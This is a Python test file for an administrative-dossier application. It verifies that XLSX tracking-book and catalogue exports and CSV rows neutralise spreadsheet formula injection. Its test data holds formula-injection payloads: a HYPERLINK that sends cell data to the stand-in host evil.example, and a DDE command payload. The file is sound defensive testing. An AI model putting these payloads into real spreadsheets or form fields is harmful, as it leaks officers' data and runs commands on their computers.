"""What people typed is written to every XLSX export as text, never as a formula.

The attack: an applicant named ``=HYPERLINK("http://…","Xem hồ sơ")`` became a live formula
in the tracking book the one-stop officer opens in Excel."""
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from xaso.dossiers import documents

from .conftest import applicant

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B7,"Xem hồ sơ")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


def formula_cells(xlsx: bytes) -> list[str]:
    """Every cell written as a formula (``<f>``) in any sheet of the workbook."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name):
                found.append(name)
    return found


def assert_text(xlsx: bytes, expected: list[str]):
    assert formula_cells(xlsx) == []
    workbook = load_workbook(io.BytesIO(xlsx))
    values = {c.value: c.data_type for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in expected:
        assert values.get(text) == "s", (text, values.get(text))


def test_the_tracking_book_writes_applicant_text_as_text(world, make_intake):
    make_intake(applicant=applicant(name=FORMULAS[0], address=FORMULAS[2], phone=""))
    make_intake(applicant=applicant(name=FORMULAS[1]))
    make_intake(applicant=applicant(name=FORMULAS[3]))
    data = documents.tracking_book(world.centre, date(2026, 3, 1), date(2026, 3, 31))
    assert_text(data, [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3]])


def test_the_catalogue_export_writes_text_as_text(catalogue, tmp_path):
    from xaso.catalog.importer import export_file
    from xaso.catalog.models import Procedure

    procedure = Procedure.objects.first()
    version = procedure.current_version()
    version.name = FORMULAS[0]
    version.save(update_fields=["name"])
    path = tmp_path / "catalogue.xlsx"
    export_file(path)
    assert_text(path.read_bytes(), [FORMULAS[0]])


def test_csv_rows_cannot_start_a_formula():
    from xaso.core.spreadsheets import csv_row

    assert csv_row([FORMULAS[0], "Nguyễn Văn An", 3, "-"]) == ["'" + FORMULAS[0], "Nguyễn Văn An", 3, "'-"]
